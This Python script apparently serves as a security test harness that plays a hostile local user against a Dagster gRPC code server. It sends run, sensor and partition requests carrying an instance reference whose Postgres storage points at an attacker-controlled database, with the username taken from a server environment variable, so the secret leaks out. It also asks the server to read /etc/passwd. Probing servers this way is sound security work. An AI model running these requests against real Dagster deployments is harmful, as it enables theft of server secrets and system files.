"""A hostile local user: ``python neighbour.py <uid or -> <place> <port of a database of theirs> <variable>``.

It asks a code server, as any client of Dagster's could, to work with an instance whose storage is the attacker's own database
and whose user name is a variable of the server's environment. One JSON line says what came of each call.
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
from collections.abc import Callable

from dagster._core.instance.ref import InstanceRef
from dagster._core.remote_origin import GrpcServerCodeLocationOrigin, RemoteRepositoryOrigin
from dagster._core.utils import make_new_run_id
from dagster._grpc.__generated__.dagster_api_pb2 import StartRunRequest
from dagster._grpc.client import DagsterGrpcClient
from dagster._grpc.types import ExecuteExternalJobArgs, PartitionArgs, SensorExecutionArgs
from dagster._serdes import serialize_value


def _calls(place: dict[str, object], evil: InstanceRef) -> dict[str, Callable[[], object]]:
    client = DagsterGrpcClient(**place)  # type: ignore[arg-type]
    repository = RemoteRepositoryOrigin(GrpcServerCodeLocationOrigin(host="127.0.0.1", port=1), "__repository__")
    run = ExecuteExternalJobArgs(job_origin=repository.get_job_origin("commit_job"), run_id=make_new_run_id(), instance_ref=evil)
    sensor = SensorExecutionArgs(
        repository_origin=repository, instance_ref=evil, sensor_name="commit_sensor",
        last_tick_completion_time=None, last_run_key=None, cursor=None, last_sensor_start_time=None,
    )  # fmt: skip
    partition = PartitionArgs(
        repository_origin=repository, partition_name="mercy", job_name="commit_job", partition_set_name="x", instance_ref=evil
    )
    return {
        "ping": lambda: client.ping("x"),
        "start_run": lambda: client._query("StartRun", StartRunRequest, serialized_execute_run_args=serialize_value(run)),
        "sensor": lambda: client.external_sensor_execution(sensor),
        "partition_tags": lambda: client.external_partition_tags(partition),
        "notebook": lambda: client.external_notebook_data("/etc/passwd"),
    }


def main(user: str, place: str, port: str, variable: str) -> None:
    storage = {
        "postgres_db": {
            "username": {"env": variable}, "password": "x", "hostname": "127.0.0.1", "db_name": "x", "port": int(port),
        }
    }  # fmt: skip
    evil = InstanceRef.from_dir(tempfile.gettempdir(), overrides={"storage": {"postgres": storage}})
    calls = _calls(json.loads(place), evil)
    if user != "-":  # only now: the interpreter's own folder may be closed to them
        os.setgroups([])
        os.setgid(int(user))
        os.setuid(int(user))
    outcomes = {}
    for name, call in calls.items():
        try:
            outcomes[name] = f"answered: {call()}"
        except Exception as error:  # noqa: BLE001 - what comes of it is what is looked at
            outcomes[name] = f"failed: {type(error).__name__} {error} {error.__cause__}"
    print(json.dumps(outcomes))  # noqa: T201


if __name__ == "__main__":
    main(*sys.argv[1:])
